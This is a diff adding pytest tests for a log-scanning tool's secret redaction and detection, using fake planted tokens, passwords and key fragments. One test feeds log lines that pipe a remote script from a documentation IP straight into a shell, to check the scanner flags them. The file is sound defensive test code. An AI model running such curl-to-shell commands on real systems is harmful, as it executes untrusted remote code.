@@ -1,0 +1,110 @@
+"""Redaction: unit behaviour, and no planted secret in any output (CLI JSON and text, findings, events, report)."""
+
+from __future__ import annotations
+
+import io
+import json
+import shutil
+from pathlib import Path
+
+import plotly.graph_objects as go
+import pytest
+from click.testing import CliRunner
+
+from tests.logscan.conftest import MULTIFORMAT
+from workbench.analysis import AnalysisContext
+from workbench.case import Case
+from workbench.cli import cli
+from workbench.collect import collect_evidence
+from workbench.logscan import Scanner, analyse, render
+from workbench.logscan.redact import MARK, mask, redact, redact_lines
+
+# every fake secret planted in ci-multiformat.log (see tests/data/logs/make_fixtures.py)
+SECRETS = [
+    "hf_Xq7LmN2pR9sT4vW6yZ1aB3cD5eF8gH0jK2",
+    "Pr0d-S1gn!ng-9x",
+    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
+    "QyNTUxOQAAACDvX3mL2k9pQ7rS1tU4vW6xY8zA0bC2dE4fG6hI8jK0lAAAAJgAbCdEfGhI",
+    "ghp_R4nd0mT0k3nF0rT3st1ngOnly01234567890",
+    "Mirr0r-Pa55w0rd",
+    "hunter2-prod-db",
+]
+
+
+def _leaks(text: str) -> list[str]:
+    """Secrets (or any 12-character piece of one) found in text."""
+    return [s for s in SECRETS if any(s[i : i + 12] in text for i in range(len(s) - 11))]
+
+
+def test_planted_secrets_are_in_the_fixture() -> None:
+    text = MULTIFORMAT.read_text(encoding="utf-8")
+    assert _leaks(text) == SECRETS  # the test below is meaningful only if they really are there
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("HF_TOKEN=hf_AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh", "HF_TOKEN=hf_Ab…[redacted]"),
+        ("  COSIGN_PASSWORD: c0s1gn-Pr0d-7f3a91!", "  COSIGN_PASSWORD: …[redacted]"),
+        ("DB_PASSWORD=hunter2-prod", "DB_PASSWORD=…[redacted]"),
+        ("id AKIAIOSFODNN7EXAMPLE ok", "id AKIAIO…[redacted] ok"),
+        ("https://bot:S3cr3t-Pa55@pypi.acme.internal/simple", "https://bot:…[redacted]@pypi.acme.internal/simple"),
+        ("token: ***", "token: ***"),
+        ("nothing secret here", "nothing secret here"),
+    ],
+)
+def test_redact_examples(text: str, expected: str) -> None:
+    assert redact(text) == expected
+    assert redact(redact(text)) == expected  # idempotent
+
+
+def test_mask_never_keeps_more_than_a_third() -> None:
+    assert mask("abcdef", 5) == "ab" + MARK
+    assert mask("hf_" + "x" * 34, 5) == "hf_xx" + MARK
+
+
+def test_private_key_blocks_in_text_json_and_context() -> None:
+    body = "MHcCAQEEIBkg4LVWM9nuwNSk3yByxZpYRTBnVJk5oBvqH3Mfo8r0oAoGCCqGSM49"
+    pem = f"-----BEGIN EC PRIVATE KEY-----\n{body}\n-----END EC PRIVATE KEY-----"
+    assert redact(pem) == f"-----BEGIN EC PRIVATE KEY-----\n{MARK}\n-----END EC PRIVATE KEY-----"
+    escaped = json.dumps({"key": pem})
+    assert "MHcCAQEE" not in redact(escaped) and "MHcCAQEE" in escaped
+    # a context window that starts inside a block: bare key lines are still masked, hex digests are not
+    lines = ["2026-11-14T03:11:30.001Z " + SECRETS[3], "sha256 " + "0123456789abcdef" * 4, "ok"]
+    assert redact_lines(lines) == ["2026-11-14T03:11:30.001Z " + MARK, lines[1], "ok"]
+
+
+def test_step_names_are_redacted_too() -> None:
+    data = b"##[group]Run curl -s https://bot:S3cr3tPa55w0rd@203.0.113.7/x | sh\ncurl -s https://203.0.113.7/x | sh\n"
+    result = Scanner().scan_stream(io.BytesIO(data), "x.log")
+    expected = [(1, "exec.remote-script-to-shell"), (1, "secret.url-credentials"), (2, "exec.remote-script-to-shell")]
+    assert [(m.line, m.rule_id) for m in result.matches] == expected
+    assert {m.group for m in result.matches} == {"Run curl -s https://bot:…[redacted]@203.0.113.7/x | sh"}
+
+
+def test_no_secret_in_cli_outputs() -> None:
+    runner = CliRunner()
+    as_json = runner.invoke(cli, ["scan-logs", "--json", str(MULTIFORMAT)])
+    as_text = runner.invoke(cli, ["scan-logs", str(MULTIFORMAT)])
+    assert as_json.exit_code == 0 and as_text.exit_code == 0
+    doc = json.loads(as_json.stdout)
+    assert len(doc["matches"]) == 18
+    assert _leaks(as_json.output) == [] and _leaks(as_text.output) == []
+
+
+def test_no_secret_in_findings_events_or_report(tmp_path: Path) -> None:
+    case_dir = tmp_path / "case"
+    (case_dir / "logs").mkdir(parents=True)
+    shutil.copy(MULTIFORMAT, case_dir / "logs" / "pipeline.log")
+    case = Case.open(case_dir)
+    result = analyse(AnalysisContext(case=case, evidence=collect_evidence(case)))
+    assert len(result.events) == 17 and len(result.findings) == 16
+    outputs = [json.dumps([f.to_dict() for f in result.findings]),
+               json.dumps([e.to_dict() for e in result.events]),
+               json.dumps([e.to_timesketch() for e in result.events]),
+               result.data["matches"].to_json(date_format="iso"), result.summary]  # fmt: skip
+    items = render(result)
+    outputs += [item.to_json() if isinstance(item, go.Figure) else item for item in items]
+    assert any(isinstance(item, go.Figure) for item in items)
+    assert [_leaks(o) for o in outputs] == [[]] * len(outputs)
